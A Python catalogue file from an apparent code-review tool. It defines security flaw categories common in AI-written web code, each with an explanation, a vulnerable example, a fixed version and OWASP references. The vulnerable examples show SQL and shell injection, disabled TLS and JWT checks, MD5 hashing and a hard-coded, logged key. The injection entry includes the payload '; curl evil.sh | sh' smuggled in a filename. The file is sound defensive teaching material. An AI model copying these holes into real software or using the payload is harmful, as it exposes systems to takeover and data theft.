"""Security family: controls that look complete in a demo and are missing on the server."""

from __future__ import annotations

from airlock.catalogue._category import Category, Family
from airlock.model import Severity

SECURITY: tuple[Category, ...] = (
    Category(
        id="frontend-only-auth",
        family=Family.SECURITY,
        title="Authorisation enforced only in the browser",
        summary="Authorisation is decided in browser code; the server route checks nothing.",
        why_ai=(
            "Asked for an admin page, assistants build what is visible: a hidden button and a "
            "client-side redirect when the role is wrong. Front-end-first generation makes a "
            "convincing demo, and the API route is written separately, without knowing that it "
            "is the only real boundary."
        ),
        in_production=(
            "Anyone can call the API directly with curl or the browser's developer tools and "
            "skip the JavaScript check, so an ordinary user deletes other accounts or downloads "
            "the admin export. Role flags kept in `localStorage` or an unsigned cookie can be "
            "edited by the user."
        ),
        fix=(
            "Enforce every authorisation rule on the server, in the route or a dependency it "
            "cannot bypass, using the identity from a verified session or token; treat "
            "client-side checks as user experience only."
        ),
        example="""\
// js
if (currentUser.role !== "admin") {
  window.location.href = "/";
}
// DELETE /api/users/:id itself checks nothing
deleteButton.onclick = () => fetch(`/api/users/${userId}`, { method: "DELETE" });
""",
        use_instead="""\
def require_admin(user: User = Depends(current_user)) -> User:
    if user.role != "admin":
        raise HTTPException(status_code=403, detail="admin only")
    return user

@app.delete("/api/users/{user_id}", status_code=204)
def delete_user(user_id: int, admin: User = Depends(require_admin)) -> None:
    users.delete(user_id)
""",
        default_severity=Severity.HIGH,
        references=(
            "https://owasp.org/Top10/A01_2021-Broken_Access_Control/",
            "https://cheatsheetseries.owasp.org/cheatsheets/Authorization_Cheat_Sheet.html",
        ),
    ),
    Category(
        id="missing-authz",
        family=Family.SECURITY,
        title="Route without server-side authorisation",
        summary="A write or private route has no server-side authentication or ownership check.",
        why_ai=(
            "Assistants generate CRUD routes from the data model; authentication is a separate "
            "concern the prompt rarely mentions, and an ownership check needs to know who owns "
            "what. A `GET /invoices/{id}` that loads by id alone is the textbook example."
        ),
        in_production=(
            "Any caller, or any logged-in user, reads or changes another customer's invoice by "
            "changing the id in the URL (broken object level authorisation, the top API risk). "
            "Enumerating ids leaks the whole table, and unauthenticated write routes let bots "
            "change data."
        ),
        fix=(
            "Require an authenticated identity on every non-public route (a router-level "
            "dependency or middleware) and scope every object lookup to it, e.g. `WHERE id = "
            ":id AND owner_id = :user_id`, answering 404 when nothing matches."
        ),
        example="""\
@app.get("/invoices/{invoice_id}")
def get_invoice(invoice_id: int, db: Session = Depends(get_db)) -> InvoiceOut:
    invoice = db.get(Invoice, invoice_id)  # anyone, any invoice
    if invoice is None:
        raise HTTPException(404)
    return InvoiceOut.model_validate(invoice)
""",
        use_instead="""\
@app.get("/invoices/{invoice_id}")
def get_invoice(
    invoice_id: int, user: User = Depends(current_user), db: Session = Depends(get_db)
) -> InvoiceOut:
    stmt = select(Invoice).where(Invoice.id == invoice_id, Invoice.owner_id == user.id)
    invoice = db.scalars(stmt).first()
    if invoice is None:
        raise HTTPException(404)
    return InvoiceOut.model_validate(invoice)
""",
        default_severity=Severity.HIGH,
        references=(
            "https://owasp.org/API-Security/editions/2023/en/0xa1-broken-object-level-authorization/",
            "https://cheatsheetseries.owasp.org/cheatsheets/Authorization_Cheat_Sheet.html",
            "https://fastapi.tiangolo.com/tutorial/security/",
        ),
    ),
    Category(
        id="exposed-secret",
        family=Family.SECURITY,
        title="Secret in code, config, client assets or logs",
        summary="Keys, tokens or passwords sit in code, config files, client-side assets or logs.",
        why_ai=(
            "Prompts often paste a real key 'to make it work', and the assistant inlines it; "
            "training examples are full of `API_KEY = 'sk-...'` lines. Front-end code that "
            "calls a third-party API directly must ship the key to the browser, and debug "
            "logging of whole requests or settings writes tokens to the logs."
        ),
        in_production=(
            "A key committed to git stays in its history, and keys pushed to public "
            "repositories are harvested by scanners within minutes; a key in a JavaScript "
            "bundle is visible to every visitor. Attackers run up usage bills, read customer "
            "data or act as the service until the key is rotated."
        ),
        fix=(
            "Load secrets at runtime from the environment or a secret manager, keep them "
            "server-side, redact them from logs, and rotate every secret that was ever "
            "committed: deleting it from the file does not remove it from history."
        ),
        example="""\
import stripe

stripe.api_key = "sk_live_51Hxxxxxxxxxxxxxxxxxxxxxxxxxxxx"

def refund(payment_intent: str) -> None:
    logger.info("refund %s with key %s", payment_intent, stripe.api_key)
    stripe.Refund.create(payment_intent=payment_intent)
""",
        use_instead="""\
import os

import stripe

stripe.api_key = os.environ["STRIPE_API_KEY"]  # injected by the secret manager

def refund(payment_intent: str) -> None:
    logger.info("refund %s", payment_intent)
    stripe.Refund.create(payment_intent=payment_intent)
""",
        default_severity=Severity.CRITICAL,
        references=(
            "https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html",
            "https://cwe.mitre.org/data/definitions/798.html",
        ),
    ),
    Category(
        id="missing-validation",
        family=Family.SECURITY,
        title="User input used unchecked",
        summary="User input reaches logic or storage without type, range, length or field checks.",
        why_ai=(
            "Assistants assume well-formed input because the example request in the prompt "
            "was valid, so a request dict goes straight into a calculation or a model "
            "constructor. Validation is boilerplate that does not change the demo, and "
            "happy-path generation leaves it out."
        ),
        in_production=(
            "A negative quantity turns a charge into a credit, a 10 MB name fills the "
            "database, and a string where a number was expected fails deep in the code as a "
            "500. Passing the raw body to the model lets a client set fields it must not, "
            "such as `price`, `user_id` or `is_admin` (mass assignment)."
        ),
        fix=(
            "Declare a schema for every body, query and path parameter (Pydantic models, "
            "Django forms or serializers) with types, ranges, lengths and allowed values, "
            "reject unknown fields, and never pass a raw request dict to the ORM."
        ),
        example="""\
@app.post("/cart/items", status_code=201)
def add_item(body: dict[str, Any], user: CurrentUser, db: DbSession) -> dict[str, int]:
    item = CartItem(**body, user_id=user.id)  # any column: price, discount, ...
    db.add(item)
    db.commit()
    return {"id": item.id}
""",
        use_instead="""\
class AddItem(BaseModel, extra="forbid"):  # unknown fields are rejected
    sku: str = Field(min_length=1, max_length=64, pattern=r"^[A-Z0-9-]+$")
    quantity: int = Field(ge=1, le=100)

@app.post("/cart/items", status_code=201)
def add_item(body: AddItem, user: CurrentUser, db: DbSession) -> dict[str, int]:
    item = CartItem(sku=body.sku, quantity=body.quantity, user_id=user.id)
    db.add(item)
    db.commit()
    return {"id": item.id}
""",
        default_severity=Severity.MEDIUM,
        references=(
            "https://cheatsheetseries.owasp.org/cheatsheets/Input_Validation_Cheat_Sheet.html",
            "https://cheatsheetseries.owasp.org/cheatsheets/Mass_Assignment_Cheat_Sheet.html",
            "https://docs.pydantic.dev/latest/concepts/fields/",
        ),
    ),
    Category(
        id="injection",
        family=Family.SECURITY,
        title="Injection: SQL, shell, code, template or deserialisation",
        summary="Untrusted input is interpreted as SQL, shell, code, templates or serialised data.",
        why_ai=(
            "f-strings are the usual way to build strings in modern Python, so assistants "
            "build SQL and shell commands with them; `shell=True`, `eval` and `pickle.loads` "
            "are the shortest path to a working demo. The model treats the input as the "
            "friendly value from the prompt, not as attacker-controlled."
        ),
        in_production=(
            "A quote in a search box rewrites the query and dumps or deletes tables; "
            "`; curl evil.sh | sh` in a filename runs on the server; `pickle.loads` or "
            "`yaml.load` on a body or cookie executes arbitrary code. The attacker gets the "
            "service's own privileges: its database, its credentials and its network."
        ),
        fix=(
            "Pass values as bound parameters (`cursor.execute(sql, params)`, `text()` with "
            "`:name` parameters), run subprocesses with an argument list and no shell, never "
            "`eval` or `exec` input, render only fixed templates with autoescaping, and "
            "deserialise untrusted data only with `json` or `yaml.safe_load`."
        ),
        example="""\
@app.get("/products")
def search(category: str, db: Session = Depends(get_db)) -> list[dict[str, Any]]:
    sql = f"SELECT id, name FROM products WHERE category = '{category}' LIMIT 50"
    return [dict(r._mapping) for r in db.execute(text(sql))]

def make_thumbnail(filename: str) -> None:
    subprocess.run(f"convert uploads/{filename} -resize 256x256 thumbs/{filename}", shell=True)
""",
        use_instead="""\
@app.get("/products")
def search(category: str, db: Session = Depends(get_db)) -> list[dict[str, Any]]:
    sql = text("SELECT id, name FROM products WHERE category = :category LIMIT 50")
    return [dict(r._mapping) for r in db.execute(sql, {"category": category})]

def make_thumbnail(filename: str) -> None:
    name = Path(filename).name  # no directory parts
    cmd = ["convert", UPLOADS / name, "-resize", "256x256", THUMBS / name]
    subprocess.run(cmd, check=True, timeout=60)
""",
        default_severity=Severity.CRITICAL,
        references=(
            "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
            "https://docs.python.org/3/library/subprocess.html#security-considerations",
            "https://docs.python.org/3/library/pickle.html",
        ),
    ),
    Category(
        id="insecure-config",
        family=Family.SECURITY,
        title="Insecure security setting",
        summary=(
            "A security setting is unsafe: debug on, TLS verification off, open CORS with "
            "credentials, weak password hashing, unverified JWTs or non-cryptographic "
            "randomness for secrets."
        ),
        why_ai=(
            "These settings are how tutorials and forum answers make errors go away: "
            "`verify=False` silences a certificate error, `allow_origins=['*']` a CORS error, "
            "`debug=True` shows the traceback. Assistants reproduce the line that made the "
            "example run, without the context that it is acceptable only on a laptop."
        ),
        in_production=(
            "Flask's debug mode serves the Werkzeug debugger, an in-browser Python console "
            "guarded only by a PIN; `verify=False` lets anyone on the network path read and "
            "alter the traffic; a JWT decoded without verification lets a user forge "
            "`role: admin`. MD5 password hashes are cracked in bulk after a breach, and tokens "
            "from `random` are predictable."
        ),
        fix=(
            "Keep debug off outside development, keep TLS verification on (pass a CA bundle "
            "to `verify` if needed), list CORS origins explicitly when credentials are "
            "allowed, hash passwords with argon2, bcrypt or scrypt, verify JWTs with a key and "
            "a pinned algorithm, and draw tokens from `secrets`."
        ),
        example="""\
app.run(host="0.0.0.0", debug=True)
resp = requests.get(PARTNER_URL, verify=False, timeout=10)
claims = jwt.decode(token, options={"verify_signature": False})
password_hash = hashlib.md5(password.encode()).hexdigest()
reset_token = str(random.randint(100000, 999999))
""",
        use_instead="""\
app.config["DEBUG"] = False  # and serve with gunicorn, not app.run()
resp = requests.get(PARTNER_URL, verify=PARTNER_CA_BUNDLE, timeout=10)
claims = jwt.decode(token, JWT_PUBLIC_KEY, algorithms=["RS256"], audience="api")
password_hash = PasswordHasher().hash(password)  # argon2-cffi
reset_token = secrets.token_urlsafe(32)
""",
        default_severity=Severity.HIGH,
        references=(
            "https://owasp.org/Top10/A05_2021-Security_Misconfiguration/",
            "https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html",
            "https://docs.python.org/3/library/secrets.html",
        ),
    ),
)
